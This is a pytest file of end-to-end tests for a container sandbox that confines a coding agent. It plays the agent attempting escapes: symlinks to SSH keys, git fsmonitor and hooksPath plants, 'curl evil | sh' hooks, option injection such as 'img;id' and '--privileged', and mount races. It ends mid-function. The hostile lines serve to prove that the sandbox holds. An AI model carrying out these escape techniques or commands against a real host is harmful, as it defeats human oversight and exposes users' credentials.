"""Around the wall, host side: what the run script trusts in the project, attacked as the agent.

Each test plays the agent inside a real sandbox (or the agent preparing the user's next run by
leaving files, links and folders behind), then the user's next `run_in_container.sh`, and checks
that nothing reached the host, the next session or a mount it should not.
"""

from __future__ import annotations

import os
import subprocess
import tempfile
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from cxgen.policy_probe import policy_dir
from tests.conftest import STATE_HOME
from tests.e2e.conftest import PROJECT_UID, RUN_ID, Sandbox, chown_tree, docker
from tests.e2e.waiting import wait_until

# The host user the run script runs as: root, or an unprivileged user in the docker group.
HOST_USERS = {"root": None, "user": (PROJECT_UID, PROJECT_UID)}


@pytest.fixture
def open_tmp() -> Iterator[Path]:
    """A folder the unprivileged host user can reach (pytest's tmp folders are root's)."""
    with tempfile.TemporaryDirectory(prefix="cxgen-test-") as tmp:
        Path(tmp).chmod(0o755)
        home = Path(tmp) / "home"
        home.mkdir()
        os.chown(home, PROJECT_UID, PROJECT_UID)
        yield Path(tmp)


@pytest.fixture
def sandbox(either_sandbox: Sandbox) -> Sandbox:
    """Every test here runs in both modes: a user's project and root's (root mode)."""
    return either_sandbox


def run_as(
    sandbox: Sandbox, who: str, open_tmp: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """`run_in_container.sh ARGS` as root or as the unprivileged project owner."""
    user = HOST_USERS[who]
    full_env = dict(env or {})
    if user is not None:
        full_env.setdefault("HOME", str(open_tmp / "home"))
    return sandbox.run(*args, user=user, env=full_env)


def git_repo(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


def one_line_error(result: subprocess.CompletedProcess[str], *words: str) -> None:
    assert result.returncode == 2, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert lines[-1].startswith("cxgen: error:"), result.stderr
    for word in words:
        assert word in lines[-1], lines[-1]


# --- Protected trees: nothing that steers the host can be renamed, replaced or written ----------


def test_agent_cannot_rename_or_rewrite_control_trees(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    project = git_repo(tmp_path / "project")
    sandbox = make_sandbox(project)
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    result = sandbox.sh(
        "for p in .git .codex .codex/.environment .codex/.environment/sessions"
        " .codex/sandbox .codex/run .codex/run/lib run_in_container.sh .copier-answers.yml; do"
        "  mv $p $p-old 2>/dev/null && echo moved:$p;"
        " done;"
        " for p in .git .codex/sandbox .codex/run run_in_container.sh .copier-answers.yml; do"
        "  rm -rf $p 2>/dev/null; [ -e $p ] || echo gone:$p;"
        " done;"
        " echo x >> .codex/allowed-domains.txt && echo wrote-allowlist;"
        " echo x >> .codex/sandbox/entrypoint.sh && echo wrote-entrypoint;"
        " echo x >> .codex/run/lib/core.sh && echo wrote-run-lib;"
        " ln -s /tmp .codex/run/lib/zz.sh 2>/dev/null && echo planted-lib;"
        " echo '[core] fsmonitor = evil' >> .git/config && echo wrote-config;"
        " echo '[core] fsmonitor = evil' > .git/commondir && echo wrote-commondir;"
        " mkdir -p .git/modules/sub && echo wrote-modules;"
        " mkdir -p .git/worktrees/w && echo wrote-worktrees;"
        " touch .codex/.environment/agent-file && echo env-writable; echo done"
    )
    assert result.stdout.split() == ["env-writable", "done"], result.stdout + result.stderr
    after = {p: p.read_bytes() for p in before}
    assert after == before
    assert not list(project.glob("*-old")) and not list(project.glob(".*-old"))


def test_work_dir_above_the_project_cannot_rename_its_ancestors(
    make_sandbox, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """With --work-dir a parent, the project and every folder above it up to the work dir are
    mount points: the agent cannot move them aside and put its own run script in their place."""
    workspace = tmp_path / "workspace"
    sandbox = make_sandbox(workspace / "group" / "project")
    chown_tree(workspace)
    script = sandbox.project / "run_in_container.sh"
    before = script.read_bytes()
    result = sandbox.run(
        "exec",
        "--work-dir",
        str(workspace),
        "--",
        "bash",
        "-c",
        "mv group g2 2>/dev/null && echo moved-group;"
        " mv group/project group/p2 2>/dev/null && echo moved-project;"
        " echo evil >> group/project/run_in_container.sh 2>/dev/null && echo wrote-script;"
        " touch group/other && echo can-work; echo done",
    )
    assert result.stdout.split() == ["can-work", "done"], result.stdout + result.stderr
    assert script.read_bytes() == before


def test_work_dir_inside_control_files_is_refused(sandbox: Sandbox) -> None:
    for inside in (".codex", ".codex/.environment"):
        result = sandbox.run("exec", "--work-dir", str(sandbox.project / inside), "--", "true")
        one_line_error(result, "control files")


# --- Git ----------------------------------------------------------------------------------------


def test_git_readonly_keeps_all_git_metadata_read_only(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """commondir, modules/*/config, info/, worktrees/: none of it can be planted."""
    project = git_repo(tmp_path / "project")
    (project / ".git/modules/sub").mkdir(parents=True)
    (project / ".git/modules/sub/config").write_text("[core]\n")
    sandbox = make_sandbox(project)
    result = sandbox.sh(
        "grep -q refs .git/HEAD && echo git-reads;"
        " echo '[core] fsmonitor = touch /tmp/pwned' >> .git/modules/sub/config && echo w1;"
        " echo /tmp/evil > .git/commondir && echo w2;"
        " echo '* filter=evil' > .git/info/attributes && echo w3;"
        " git config core.hooksPath /tmp 2>/dev/null && echo w4; echo done"
    )
    assert result.stdout.split() == ["git-reads", "done"], result.stdout + result.stderr
    assert (project / ".git/modules/sub/config").read_text() == "[core]\n"
    assert not (project / ".git/commondir").exists()


def test_git_off_hides_git(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    project = git_repo(tmp_path / "project")
    sandbox = make_sandbox(project, git="off")
    result = sandbox.sh("ls -A .git | wc -l; touch .git/x 2>/dev/null && echo wrote; echo done")
    assert result.stdout.split() == ["0", "done"], result.stdout + result.stderr
    assert (project / ".git/HEAD").exists()


def test_git_writable_is_opt_in_and_loud(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    project = git_repo(tmp_path / "project")
    sandbox = make_sandbox(project)
    result = sandbox.run(
        "exec",
        "--git",
        "writable",
        "--",
        "bash",
        "-c",
        "touch .git/agent && mv .git g 2>/dev/null; echo done",
    )
    assert result.stdout.strip() == "done" and "--git writable" in result.stderr
    assert (project / ".git/agent").exists() and (project / ".git/HEAD").exists()


def test_nested_git_made_by_the_agent_is_reported(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """New .git folders and files, an edited config in an existing nested repository, and a bare
    repository's HEAD: each is named after the session."""
    project = git_repo(tmp_path / "project")
    git_repo(project / "vendored")
    sandbox = make_sandbox(project)
    assert "WARNING" not in sandbox.sh("true").stderr
    result = sandbox.sh(
        "mkdir -p new/lib/.git; mkdir d && echo 'gitdir: /x' > d/.git;"
        " echo '[core] fsmonitor = evil' >> vendored/.git/config;"
        " mkdir -p bare/objects bare/refs && echo 'ref: refs/heads/main' > bare/HEAD"
    )
    assert result.returncode == 0, result.stderr
    assert "WARNING" in result.stderr
    for path in ("new/lib/.git", "d/.git", "vendored/.git", "bare"):
        assert f"  {project}/{path}\n" in result.stderr, result.stderr
    assert f"{project}/.git\n" not in result.stderr


@pytest.mark.parametrize("mode", ["sneaky", "../x", "READONLY"])
def test_bad_git_mode_is_refused(sandbox: Sandbox, mode: str) -> None:
    one_line_error(sandbox.run("exec", "--git", mode, "--", "true"), "--git")


# --- Symlinks the agent left for the next run ----------------------------------------------------


@pytest.mark.parametrize("who", HOST_USERS)
def test_symlinked_sessions_folder_cannot_move_a_mount_over_the_entrypoint(
    make_sandbox, open_tmp: Path, who: str
) -> None:  # type: ignore[no-untyped-def]
    """sessions -> /usr/local, then the user's --sessions-path run: refused, nothing mounted."""
    sandbox = make_sandbox(open_tmp / "project")
    sessions = sandbox.project / ".codex/.environment/sessions"
    sessions.rmdir() if sessions.is_dir() else None
    sessions.symlink_to("/usr/local")
    os.lchown(sessions, PROJECT_UID, PROJECT_UID)
    elsewhere = sandbox.project / "keep-sessions"
    elsewhere.mkdir()
    os.chown(elsewhere, PROJECT_UID, PROJECT_UID)
    result = run_as(sandbox, who, open_tmp, "exec", "--sessions-path", str(elsewhere), "--", "true")
    one_line_error(result, str(sessions), "symlink")


@pytest.mark.parametrize("who", HOST_USERS)
def test_symlinked_agent_home_is_refused(make_sandbox, open_tmp: Path, who: str) -> None:  # type: ignore[no-untyped-def]
    """.codex/.environment -> a host folder would be mounted writable: refused."""
    victim = open_tmp / "victim-home"
    victim.mkdir()
    (victim / ".bashrc").write_text("# user's\n")
    sandbox = make_sandbox(open_tmp / "project")
    env_dir = sandbox.project / ".codex/.environment"
    subprocess.run(["rm", "-rf", str(env_dir)], check=True)
    env_dir.symlink_to(victim)
    result = run_as(sandbox, who, open_tmp, "exec", "--", "bash", "-c", "echo evil >> ~/.bashrc")
    one_line_error(result, str(env_dir), "symlink")
    assert (victim / ".bashrc").read_text() == "# user's\n"


@pytest.mark.parametrize("who", HOST_USERS)
def test_symlinked_read_only_mount_inside_the_project_is_refused(
    make_sandbox, open_tmp: Path, who: str
) -> None:  # type: ignore[no-untyped-def]
    """docs -> ~/.ssh, then `--read-only docs`: refused, the secret never mounted."""
    secret = open_tmp / "ssh"
    secret.mkdir()
    (secret / "id_rsa").write_text("PRIVATE\n")
    sandbox = make_sandbox(open_tmp / "project")
    link = sandbox.project / "docs"
    link.symlink_to(secret)
    os.lchown(link, PROJECT_UID, PROJECT_UID)
    result = run_as(
        sandbox,
        who,
        open_tmp,
        "exec",
        "--read-only",
        str(link),
        "--",
        "cat",
        f"/app{secret}/id_rsa",
    )
    one_line_error(result, str(link), "symlink")
    assert "PRIVATE" not in result.stdout


def test_symlinked_git_hooks_show_nothing_of_the_host(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """.git/hooks -> a host folder is no mount any more: inside it points into the container."""
    secret = tmp_path / "ssh"
    secret.mkdir()
    (secret / "id_rsa").write_text("PRIVATE\n")
    project = git_repo(tmp_path / "project")
    subprocess.run(["rm", "-rf", str(project / ".git/hooks")], check=True)
    (project / ".git/hooks").symlink_to(secret)
    sandbox = make_sandbox(project)
    result = sandbox.sh(
        "cat .git/hooks/id_rsa 2>/dev/null; ls /app$(readlink .git/hooks) 2>/dev/null; echo done"
    )
    assert "PRIVATE" not in result.stdout and result.stdout.strip().endswith("done")


@pytest.mark.parametrize("who", HOST_USERS)
@pytest.mark.parametrize("plant", ["symlink", "hardlink"])
def test_credentials_copy_never_writes_through_an_agent_link(
    make_sandbox, open_tmp: Path, who: str, plant: str
) -> None:  # type: ignore[no-untyped-def]
    """auth.json planted as a link to a user file: the next --auth_file run must not overwrite
    that file (symlink: refused; hard link: replaced, the user's file untouched)."""
    victim = open_tmp / "victim.txt"
    victim.write_text("user data\n")
    os.chown(victim, PROJECT_UID, PROJECT_UID)
    creds = open_tmp / "creds.json"
    creds.write_text('{"token": "secret"}\n')
    os.chown(creds, PROJECT_UID, PROJECT_UID)
    sandbox = make_sandbox(open_tmp / "project")
    auth = sandbox.project / ".codex/.environment/auth.json"
    if plant == "symlink":
        auth.symlink_to(victim)
        os.lchown(auth, PROJECT_UID, PROJECT_UID)
    else:
        os.link(victim, auth)
    result = run_as(sandbox, who, open_tmp, "exec", "--auth_file", str(creds), "--", "true")
    assert victim.read_text() == "user data\n"
    if plant == "symlink":
        one_line_error(result, str(auth), "symlink")
    else:
        assert result.returncode == 0, result.stderr
        assert auth.read_text() == '{"token": "secret"}\n' and not auth.is_symlink()
        assert auth.stat().st_mode & 0o077 == 0


@pytest.mark.parametrize("who", HOST_USERS)
def test_no_chown_through_agent_symlinks(make_sandbox, open_tmp: Path, who: str) -> None:  # type: ignore[no-untyped-def]
    """prompts/ and home/ as links to a root-owned folder: refused, ownership unchanged."""
    target = open_tmp / "root-owned"
    target.mkdir()
    config = open_tmp / "codex-config"
    (config / "prompts").mkdir(parents=True)
    (config / "prompts/p.md").write_text("prompt\n")
    chown_tree(config)
    for name in ("prompts", "home"):
        sandbox = make_sandbox(open_tmp / f"project-{name}")
        link = sandbox.project / ".codex/.environment" / name
        subprocess.run(["rm", "-rf", str(link)], check=True)
        link.symlink_to(target)
        result = run_as(sandbox, who, open_tmp, "exec", "--config", str(config), "--", "true")
        one_line_error(result, str(link), "symlink")
        assert target.stat().st_uid == 0 and not list(target.iterdir())


# --- Options that would leave the sandbox ---------------------------------------------------------


@pytest.mark.parametrize("network", ["host", "none", "container:abc"])
def test_network_namespaces_of_others_are_refused(sandbox: Sandbox, network: str) -> None:
    result = subprocess.run(
        [str(sandbox.project / "run_in_container.sh"), "exec", "--network", network, "--", "true"],
        capture_output=True,
        text=True,
        check=False,
    )
    one_line_error(result, "--network")


@pytest.mark.parametrize("image", ["--privileged", "-v/:/host", "a b", "img;id"])
def test_codex_docker_image_must_be_an_image_reference(sandbox: Sandbox, image: str) -> None:
    result = sandbox.run("exec", "--", "true", env={"CODEX_DOCKER_IMAGE": image})
    one_line_error(result, "CODEX_DOCKER_IMAGE")


def test_workspace_root_only_confines_the_work_dir(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root = tmp_path / "workspace"
    sandbox = make_sandbox(root / "project")
    (root / "sibling").mkdir()
    result = sandbox.sh("pwd; ls /app" + str(root), env={"WORKSPACE_ROOT_DIR": str(root)})
    assert result.stdout.splitlines()[0] == f"/app{sandbox.project}", result.stderr
    assert "sibling" not in result.stdout
    outside = sandbox.run(
        "exec", "--work-dir", str(tmp_path), "--", "true", env={"WORKSPACE_ROOT_DIR": str(root)}
    )
    one_line_error(outside, "outside WORKSPACE_ROOT_DIR")


def test_process_and_memory_limits(sandbox: Sandbox) -> None:
    result = sandbox.sh(
        "cd /sys/fs/cgroup; cat pids.max 2>/dev/null || cat pids/pids.max;"
        " cat memory.max 2>/dev/null || cat memory/memory.limit_in_bytes"
    )
    pids, memory = result.stdout.split()
    assert pids == "4096" and int(memory) == 8 * 1024**3
    bomb = sandbox.run(
        "exec",
        "--pids-limit",
        "40",
        "--",
        "bash",
        "-c",
        "for i in $(seq 80); do sleep 5 & done 2>/dev/null; echo started $(jobs -p | wc -l)",
    )
    assert "started 80" not in bomb.stdout


@pytest.mark.parametrize(
    "option", [["--pids-limit", "-1"], ["--memory", "8g;id"], ["--memory", "--privileged"]]
)
def test_bad_limits_are_refused(sandbox: Sandbox, option: list[str]) -> None:
    one_line_error(sandbox.run("exec", *option, "--", "true"), option[0])


# --- Policy approval --------------------------------------------------------------------------


def test_changed_allowlist_needs_approval(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A domain added behind the user's back (an earlier agent, a git pull) stops the next run
    until the user accepts it; the diff names the domain."""
    sandbox = make_sandbox()
    with (sandbox.project / ".codex/allowed-domains.txt").open("a") as f:
        f.write("blocked.test\n")
    refused = sandbox.sh("getent hosts blocked.test && echo reached")
    one_line_error(refused, "not accepted")
    assert "added: blocked.test" in refused.stderr and "reached" not in refused.stdout
    accepted = sandbox.run("exec", "--accept-changes", "--", "true")
    assert accepted.returncode == 0, accepted.stderr
    assert sandbox.sh("true").returncode == 0  # remembered


def test_changed_sandbox_files_need_approval_and_show_a_diff(make_sandbox) -> None:  # type: ignore[no-untyped-def]
    sandbox = make_sandbox()
    entrypoint = sandbox.project / ".codex/sandbox/entrypoint.sh"
    entrypoint.write_text(entrypoint.read_text() + "# agent was here\n")
    refused = sandbox.run("build")
    one_line_error(refused, "not accepted")
    assert "+# agent was here" in refused.stderr
    accept = subprocess.run(
        [str(sandbox.project / "run_in_container.sh"), "accept"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert accept.returncode == 0 and "accepted" in accept.stderr
    # Accepted: the build goes ahead (the image of the changed context is built).
    assert sandbox.run("build").returncode == 0


def accepted_record(project: Path) -> Path:
    """This user's accepted policy of `project` (the run script's POLICY_DIR/policy)."""
    return policy_dir(project, STATE_HOME) / "policy"


def at_a_terminal(project: Path, command: str, answer: str) -> subprocess.CompletedProcess[str]:
    """`run_in_container.sh COMMAND` on a terminal (script's pty) that answers ANSWER; what the
    terminal showed is in stdout."""
    return subprocess.run(
        ["script", "-qec", f"{project / 'run_in_container.sh'} {command}", "/dev/null"],
        input=answer,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.parametrize("owner", [PROJECT_UID, 0], ids=["user", "root"])
def test_accept_records_only_what_the_refusal_showed(  # type: ignore[no-untyped-def]
    make_sandbox, tmp_path: Path, owner: int
) -> None:
    """A start is refused (no terminal) and shows first.test; meanwhile the agent of a sandbox
    whose work dir holds the project adds evil.test to its allowlist. `accept` without a terminal
    refuses, naming evil.test, and records nothing; at a terminal it shows both before asking."""
    outer = make_sandbox(tmp_path / "outer", owner=owner)
    sandbox = make_sandbox(tmp_path / "outer/inner/project", owner=owner)
    record = accepted_record(sandbox.project)
    accepted = record.read_bytes()
    with (sandbox.project / ".codex/allowed-domains.txt").open("a") as f:
        f.write("first.test\n")
    refused = sandbox.run("exec", "--", "true")
    one_line_error(refused, "not accepted", "run ./run_in_container.sh accept")
    assert "allowed domains added: first.test\n" in refused.stderr
    added = outer.sh("echo evil.test >>inner/project/.codex/allowed-domains.txt && echo added")
    assert added.stdout.strip() == "added", added.stderr
    accept = sandbox.run("accept")
    one_line_error(accept, "changed since the refusal you reviewed: added evil.test", "terminal")
    assert "added: first.test evil.test\n" in accept.stderr  # the diff it would have recorded
    assert record.read_bytes() == accepted
    declined = at_a_terminal(sandbox.project, "accept", "n\n")
    assert declined.returncode == 2 and record.read_bytes() == accepted, declined.stdout
    shown = declined.stdout
    assert shown.index("allowed domains added: first.test evil.test") < shown.index("[y/N]")
    assert at_a_terminal(sandbox.project, "accept", "y\n").returncode == 0
    assert "domain evil.test\n" in record.read_text()
    assert sandbox.run("exec", "--", "true").returncode == 0


def test_fresh_machine_asks_once(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A teammate's clone: no record on this machine, so the first run shows the allowlist and
    the build context and asks; without a terminal it refuses; a yes is remembered."""
    sandbox = make_sandbox()
    env = {"XDG_STATE_HOME": str(tmp_path / "state")}
    refused = sandbox.run("exec", "--", "true", env=env)
    one_line_error(refused, "not accepted")
    assert "first run" in refused.stderr and "allowed.test" in refused.stderr
    assert "Dockerfile" in refused.stderr
    script = sandbox.project / "run_in_container.sh"
    command = f"{script} exec --network {sandbox.network} -- echo started"
    answered = subprocess.run(
        ["script", "-qec", command, "/dev/null"],
        input="y\n",
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        timeout=120,
        check=False,
    )
    assert answered.returncode == 0 and "started" in answered.stdout, answered.stdout
    assert sandbox.run("exec", "--", "true", env=env).returncode == 0


def test_agent_home_gitignore_stays_read_only(sandbox: Sandbox) -> None:
    """Un-ignoring auth.json would put credentials into the user's next commit."""
    gitignore = sandbox.project / ".codex/.environment/.gitignore"
    before = gitignore.read_bytes()
    result = sandbox.sh(
        "echo '!auth.json' >> .codex/.environment/.gitignore && echo wrote; echo done"
    )
    assert result.stdout.strip() == "done"
    assert gitignore.read_bytes() == before


def test_mount_targets_in_reach_of_a_running_agent_are_refused(make_sandbox) -> None:  # type: ignore[no-untyped-def]
    """While one sandbox runs, its agent could swap a folder of the work dir for a symlink between
    the next run's check and Docker's mount: a --read-only path there is refused meanwhile."""
    sandbox = make_sandbox()
    docs = sandbox.project / "docs"
    docs.mkdir()
    with running_sandbox(sandbox):
        result = sandbox.run("exec", "--read-only", str(docs), "--", "true")
        one_line_error(result, "a running sandbox", str(docs))
    assert sandbox.run("exec", "--read-only", str(docs), "--", "true").returncode == 0


# --- From the outside review: the agent of one session preparing or racing the next ---------------


@pytest.mark.parametrize("layout", ["work-dir-inside", "project-without-git"])
def test_a_git_made_at_the_top_of_the_work_dir_is_reported(
    make_sandbox, tmp_path: Path, layout: str
) -> None:  # type: ignore[no-untyped-def]
    """No .git is exempt but the project's own, read-only one: a work dir inside the project,
    or a project that is a plain folder in a bigger repository, gets its new .git named."""
    if layout == "work-dir-inside":
        sandbox = make_sandbox(git_repo(tmp_path / "project"))
        (sandbox.project / "src").mkdir()
        chown_tree(sandbox.project)
        args = ["--work-dir", str(sandbox.project / "src")]
        planted = sandbox.project / "src/.git"
    else:
        sandbox = make_sandbox(git_repo(tmp_path / "mono") / "svc")
        args = []
        planted = sandbox.project / ".git"
    result = sandbox.run(
        "exec",
        *args,
        "--",
        "bash",
        "-c",
        "mkdir .git && echo '[core] fsmonitor = evil' > .git/config",
    )
    assert result.returncode == 0, result.stderr
    assert f"  {planted}\n" in result.stderr, result.stderr


def test_names_in_the_git_report_cannot_steer_the_terminal(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    sandbox = make_sandbox(git_repo(tmp_path / "project"))
    result = sandbox.sh("mkdir -p lib/.git \"$(printf 'x\\033[2J\\033[H')/.git\"")
    assert "\x1b" not in result.stderr and f"  {sandbox.project}/lib/.git\n" in result.stderr


def test_a_folder_made_unreadable_is_named(make_sandbox, open_tmp: Path) -> None:  # type: ignore[no-untyped-def]
    """Run as the user (root reads everything): a repository hidden below a folder the user
    cannot list is not silently skipped; many such folders are one line, not one each (issue
    19: a work dir with 100+ other users' folders printed a raw find error for each)."""
    sandbox = make_sandbox(git_repo(open_tmp / "project"))
    chown_tree(sandbox.project)
    result = run_as(
        sandbox,
        "user",
        open_tmp,
        "exec",
        "--",
        "bash",
        "-c",
        "mkdir -p tools/gen/.git && chmod 0311 tools"
        "&& for i in $(seq 1 40); do mkdir -p more/copier-$i && chmod 0 more/copier-$i; done",
    )
    assert result.returncode == 0, result.stderr
    lines = [line for line in result.stderr.splitlines() if "could not be searched" in line]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("cxgen: WARNING: 41 folder(s) in the work dir could not be searched")
    assert "Permission denied" not in result.stderr
    subprocess.run(["chmod", "-R", "u+rwx", str(sandbox.project)], check=True)


def test_init_hook_stays_read_only_inside(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    hook = tmp_path / "hook.sh"
    hook.write_text("true\n")
    sandbox = make_sandbox(init_hook=str(hook))
    result = sandbox.sh("echo 'curl evil' >> .codex/.environment/init.sh && echo wrote; echo done")
    assert result.stdout.strip() == "done"
    assert (sandbox.project / ".codex/.environment/init.sh").read_text() == "true\n"


@pytest.mark.parametrize("option", ["--work-dir", "--sessions-path", "--auth_file"])
def test_paths_a_running_agent_can_swap_are_refused_meanwhile(
    make_sandbox, tmp_path: Path, option: str
) -> None:  # type: ignore[no-untyped-def]
    """While one sandbox runs, its agent can swap anything in its work dir for a symlink at the
    moment the next run checks it (inotify tells it when): such paths are refused meanwhile."""
    sandbox = make_sandbox()
    sub = sandbox.project / "sub"
    sub.mkdir()
    creds = tmp_path / "auth.json"
    creds.write_text("{}\n")
    value = {"--work-dir": str(sub), "--sessions-path": str(sub), "--auth_file": str(creds)}[option]
    with running_sandbox(sandbox):
        result = sandbox.run("exec", option, value, "--", "true")
        one_line_error(result, "a running sandbox")
    assert sandbox.run("exec", option, value, "--", "true").returncode == 0


@contextmanager
def running_sandbox(sandbox: Sandbox) -> Iterator[None]:
    """Another session of the project, running meanwhile."""
    name = f"cxgen-test-{RUN_ID}-long-{uuid.uuid4().hex[:6]}"
    process = sandbox.start("exec", "--name", name, "--", "sleep", "60")
    try:
        wait_until(
            lambda: docker("ps", "-q", "--filter", f"name={name}").stdout.strip(),
            f"{name} to run",
            watch=process,
        )
        yield
    finally:
        docker("rm", "-f", "-v", name, check=False)
        process.communicate(timeout=30)


def test_symlinks_in_an_earlier_work_dir_are_the_agents(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A session on another work dir plants docs -> a secret folder; later runs that reach
    through docs (as --read-only or as --work-dir) are refused."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("PRIVATE\n")
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    chown_tree(workspace)
    sandbox = make_sandbox()
    planted = sandbox.run(
        "exec", "--work-dir", str(workspace), "--", "ln", "-s", str(secret), "docs"
    )
    assert planted.returncode == 0, planted.stderr
    for option in ("--read-only", "--work-dir"):
        result = sandbox.run("exec", option, str(workspace / "docs"), "--", "true")
        one_line_error(result, str(workspace / "docs"), "symlink")


def test_config_and_auth_files_in_the_project_are_not_followed(
    make_sandbox, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """--config and --auth_file pointed into the project: the agent's links there (to a host
    file) are refused, not copied into its home."""
    secret = tmp_path / "shadow"
    secret.write_text("root:hash\n")
    sandbox = make_sandbox()
    cfg = sandbox.project / "cfg"
    cfg.mkdir()
    (cfg / "config.toml").symlink_to(secret)
    (sandbox.project / "auth.json").symlink_to(secret)
    for args in (["--config", str(cfg)], ["--auth_file", str(sandbox.project / "auth.json")]):
        result = sandbox.run("exec", *args, "--", "true")
        one_line_error(result, "symlink")
    assert not (sandbox.project / ".codex/.environment/config.toml").exists()


# --- Second outside review ----------------------------------------------------------------------


def test_parallel_sessions_of_a_project_are_fine(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Every path a default run mounts is a mount point in the running session too."""
    sandbox = make_sandbox(git_repo(tmp_path / "project"))
    with running_sandbox(sandbox):
        result = sandbox.sh("echo second")
    assert result.returncode == 0 and result.stdout.strip() == "second", result.stderr


def test_a_file_created_by_a_running_agent_is_not_mounted_meanwhile(make_sandbox) -> None:  # type: ignore[no-untyped-def]
    """init.sh did not exist when session A started, so it is no mount point there: A's agent
    creates it and could swap it for a symlink while session B mounts it. B refuses instead."""
    sandbox = make_sandbox()
    with running_sandbox(sandbox):
        hook = sandbox.project / ".codex/.environment/init.sh"
        hook.write_text("true\n")  # as the agent of A would
        result = sandbox.run("exec", "--accept-changes", "--", "true")
        one_line_error(result, "a running sandbox", str(hook))


def test_a_changed_init_hook_needs_approval(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    hook = tmp_path / "hook.sh"
    hook.write_text("true\n")
    sandbox = make_sandbox(init_hook=str(hook))
    (sandbox.project / ".codex/.environment/init.sh").write_text("curl evil | sh\n")
    refused = sandbox.sh("true")
    one_line_error(refused, "not accepted")
    assert "init hook" in refused.stderr and "+curl evil | sh" in refused.stderr


def test_git_report_names_every_repository_however_many_files(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Decoys (thousands of changed files in vendored repositories) cannot push the agent's
    repository out of the report."""
    sandbox = make_sandbox(git_repo(tmp_path / "project"))
    for name in "abc":
        git_repo(sandbox.project / "vendor" / name)
    chown_tree(sandbox.project)
    result = sandbox.sh(
        "for d in a b c; do for i in $(seq 1500); do : > vendor/$d/.git/o$i; done; done;"
        " mkdir -p zz/.git && echo '[core] fsmonitor = evil' > zz/.git/config;"
        " mkdir -p \"$(printf 'nl\\nx')/.git\""
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert f"  {sandbox.project}/zz/.git\n" in result.stderr
    assert f"  $'{sandbox.project}/nl\\nx/.git'\n" in result.stderr, result.stderr[-2000:]
    for name in "abc":
        assert f"{sandbox.project}/vendor/{name}/.git\n" in result.stderr


@pytest.mark.parametrize("name", ["z\nz", "x\x1b[2Jy", "a b"])
def test_odd_names_in_the_build_context_are_refused(make_sandbox, name: str) -> None:  # type: ignore[no-untyped-def]
    """A name with a newline would slip past the line-by-line hash: the tag would not cover it."""
    sandbox = make_sandbox()
    (sandbox.project / ".codex/sandbox" / name).write_text("echo evil\n")
    result = sandbox.run("build")
    one_line_error(result, "plain name")
    assert "\x1b" not in result.stderr


def test_policy_diff_shows_new_files_and_no_control_codes(make_sandbox) -> None:  # type: ignore[no-untyped-def]
    sandbox = make_sandbox()
    entrypoint = sandbox.project / ".codex/sandbox/entrypoint.sh"
    entrypoint.write_text(entrypoint.read_text() + "export EVIL=1 # x\r\x1b[2K# harmless\n")
    (sandbox.project / ".codex/sandbox/extra.sh").write_text("curl evil | sh\n")
    refused = sandbox.run("build")
    one_line_error(refused, "not accepted")
    assert "\x1b" not in refused.stderr and "\r" not in refused.stderr
    assert "export EVIL=1" in refused.stderr and "+curl evil | sh" in refused.stderr


def test_cdpath_cannot_redirect_the_checked_work_dir(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """With CDPATH set, `cd tmp` from / would enter CDPATH's tmp: a mirror of the path there
    must not become the work dir."""
    sandbox = make_sandbox()
    (sandbox.project / "sub").mkdir()
    decoy = tmp_path / "decoy"
    mirror = decoy / str(sandbox.project / "sub").lstrip("/")
    mirror.mkdir(parents=True)
    (mirror / "decoy-marker").touch()
    result = sandbox.run(
        "exec",
        "--work-dir",
        "sub",
        "--",
        "ls",
        "-A",
        env={"CDPATH": str(decoy)},
        cwd=sandbox.project,
    )
    assert result.returncode == 0, result.stderr
    assert "decoy-marker" not in result.stdout


def write_once_unpinned(
    sandbox: Sandbox, write: str, swap: Callable[[], None]
) -> tuple[int, str, str]:
    """A session whose agent retries WRITE (a bash command) until it succeeds, while this side
    runs SWAP once the agent is there: the session's status, stdout and stderr."""
    agent = (
        "touch pin-ready; for i in $(seq 6000); do"
        f" if {write} 2>/dev/null; then echo wrote; exit 0; fi;"
        " sleep 0.05; done; echo held"
    )
    session = sandbox.start("exec", "--", "bash", "-c", agent)
    try:
        ready = sandbox.project / "pin-ready"
        wait_until(ready.exists, "the agent's start", watch=session)
        swap()
        out, err = session.communicate(timeout=600)
    finally:
        session.kill()
    return session.returncode, out, err


@pytest.mark.parametrize("owner", [PROJECT_UID, 0], ids=["user", "root-mode"])
def test_a_pinned_file_replaced_on_the_host_mid_session_is_named_after_it(
    make_sandbox, tmp_path: Path, owner: int
